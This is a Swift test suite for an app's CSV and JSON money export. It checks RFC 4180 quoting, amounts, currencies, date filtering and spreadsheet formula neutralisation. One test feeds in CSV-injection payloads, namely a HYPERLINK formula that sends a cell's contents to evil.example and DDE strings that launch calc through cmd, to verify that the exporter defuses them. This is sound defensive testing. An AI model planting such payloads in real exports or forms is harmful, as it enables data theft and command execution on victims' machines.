import CSV
import Foundation
import OrbitCore
import OrbitTestSupport
import Testing

@Suite("Money export: RFC 4180 CSV and JSON")
struct ExportTests {
    @Test("transactions with payers and splits, settlements, dues and payments; quoting, CRLF, decimals with currency; a date range")
    func export() async throws {
        try await withServices { services, _ in
            let cast = try await Cast.make(services)
            let tim = try await services.family.add(name: "Tim", as: cast.member)
            let dinner = try await services.expenses.addExpense(
                in: cast.community, description: "Dinner, \"La Piazza\"", total: try dollars("90.01"),
                payers: [cast.admin: 5001, cast.member: 4000], split: .equal([.user(cast.admin), .user(cast.member), .familyMember(tim.id)]),
                date: CivilDate(year: 2026, month: 10, day: 3), as: cast.admin)
            let yen = try await services.expenses.addExpense(
                in: cast.community, description: "Snacks", total: Money(minorUnits: 1200, currency: try Currency.parse("JPY")),
                paidBy: cast.member, split: .equal([cast.admin]), date: CivilDate(year: 2026, month: 11, day: 1), as: cast.member)
            let gone = try await services.expenses.addExpense(
                in: cast.community, description: "Mistake", total: try dollars("1.00"), paidBy: cast.admin, split: .equal([cast.admin]),
                date: CivilDate(year: 2026, month: 10, day: 4), as: cast.admin)
            try await services.expenses.deleteExpense(gone.id, as: cast.admin)
            let dues = try await services.dues.create(
                in: cast.community, name: "Season", amount: try dollars("50.00"), dueDate: CivilDate(year: 2026, month: 10, day: 31), as: cast.admin)
            _ = try await services.dues.recordPayment(to: dues.id, by: cast.member, amount: try dollars("20.00"), method: "cash", as: cast.admin)

            let export = try await services.exports.export(in: cast.community, as: cast.member)
            let csv = try export.csv()
            let text = String(decoding: csv, as: UTF8.self)
            #expect(text.hasPrefix("record,id,parent_id,date,description,user_id,for,amount,currency,category,event_id,settled\r\n"))
            #expect(text.hasSuffix("\r\n"))
            // Quoted where a field holds a comma or a quote; every line ends with CRLF.
            #expect(text.contains(",\"Dinner, \"\"La Piazza\"\"\","))
            #expect(!text.replacingOccurrences(of: "\r\n", with: "").contains("\n"))

            let reader = try CSVReader(string: text, hasHeaderRow: true)
            var rows: [[String: String]] = []
            while let fields = reader.next() {
                rows.append(Dictionary(uniqueKeysWithValues: zip(MoneyExport.header, fields)))
            }
            #expect(
                rows.map { $0["record"] ?? "" } == [
                    "expense", "payer", "payer", "split", "split", "split", "expense", "split", "dues", "dues_payment",
                ])
            #expect(rows[0]["description"] == "Dinner, \"La Piazza\"" && rows[0]["amount"] == "90.01" && rows[0]["currency"] == "USD")
            #expect(rows[1...2].map { $0["amount"] ?? "" }.sorted() == ["40.00", "50.01"])
            #expect(rows[3...5].allSatisfy { $0["parent_id"] == dinner.id.description })
            #expect(rows[3...5].compactMap { $0["for"] }.filter { !$0.isEmpty } == ["Tim"])
            #expect(rows[9]["amount"] == "20.00" && rows[9]["parent_id"] == dues.id.description && rows[9]["description"] == "cash")
            #expect(rows[6]["id"] == yen.id.description && rows[6]["amount"] == "1200" && rows[6]["currency"] == "JPY")
            #expect(!rows.contains { $0["id"] == gone.id.description })

            let october = try await services.exports.export(
                in: cast.community, from: CivilDate(year: 2026, month: 10, day: 1), to: CivilDate(year: 2026, month: 10, day: 31), as: cast.admin)
            #expect(october.rows.map(\.record) == ["expense", "payer", "payer", "split", "split", "split", "dues", "dues_payment"])
            let json = try JSONSerialization.jsonObject(with: try JSONEncoder().encode(october)) as? [String: Any]
            #expect((json?["rows"] as? [[String: Any]])?.first?["amount"] as? String == "90.01")
            await #expect(throws: ServiceError.self) { try await services.exports.export(in: cast.community, as: cast.outsider) }
        }
    }

    @Test(
        "a cell that a spreadsheet would run as a formula is neutralised (OWASP): text beginning with =, +, -, @, tab or CR gets a leading '; amounts stay numbers",
        arguments: [
            #"=HYPERLINK("https://evil.example/?d="&A1,"Click")"#, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
        ])
    func spreadsheetFormulas(text: String) async throws {
        try await withServices { services, _ in
            let cast = try await Cast.make(services)
            let child = try await services.family.add(name: String(text.prefix(100)), as: cast.member)
            _ = try await services.expenses.addExpense(
                in: cast.community, description: text, total: try dollars("12.50"), paidBy: cast.admin,
                split: .equal([.user(cast.admin), .familyMember(child.id)]), as: cast.admin)
            let csv = String(decoding: try await services.exports.export(in: cast.community, as: cast.member).csv(), as: UTF8.self)
            let reader = try CSVReader(string: csv, hasHeaderRow: true)
            var rows: [[String: String]] = []
            while let fields = reader.next() { rows.append(Dictionary(uniqueKeysWithValues: zip(MoneyExport.header, fields))) }
            #expect(rows.first?["description"] == "'" + text, "\(rows.first ?? [:])")
            #expect(rows.compactMap { $0["for"] }.filter { !$0.isEmpty } == ["'" + String(text.prefix(100))])
            // No text cell begins as a formula; every amount reads as a number.
            let risky: Set<Character> = ["=", "+", "-", "@", "\t", "\r"]
            for row in rows {
                for column in ["description", "for"] { #expect(!(row[column]?.first.map(risky.contains) ?? false), "\(column): \(row)") }
                #expect(Double(row["amount"] ?? "") != nil, "\(row)")
            }
            #expect(rows.first?["amount"] == "12.50")
            // The JSON export keeps the text as typed: it is data, not a sheet.
            let json = try await services.exports.export(in: cast.community, as: cast.member)
            #expect(json.rows.first?.description == text)
        }
    }

    @Test("plain text, numbers written as text and text with a risky character later on are left as they are; a leading tab or CR is neutralised")
    func spreadsheetSafeLeavesTheRest() {
        // The services refuse control characters in names and descriptions; the rule holds anyway.
        #expect(MoneyExport.spreadsheetSafe("\tTab") == "'\tTab" && MoneyExport.spreadsheetSafe("\rCR") == "'\rCR")
        for text in ["Pizza", "12 apples", "Tom & Jerry's = fun", "a-b", "", " =leading space", "Ünïcödé"] {
            #expect(MoneyExport.spreadsheetSafe(text) == text)
        }
    }
}
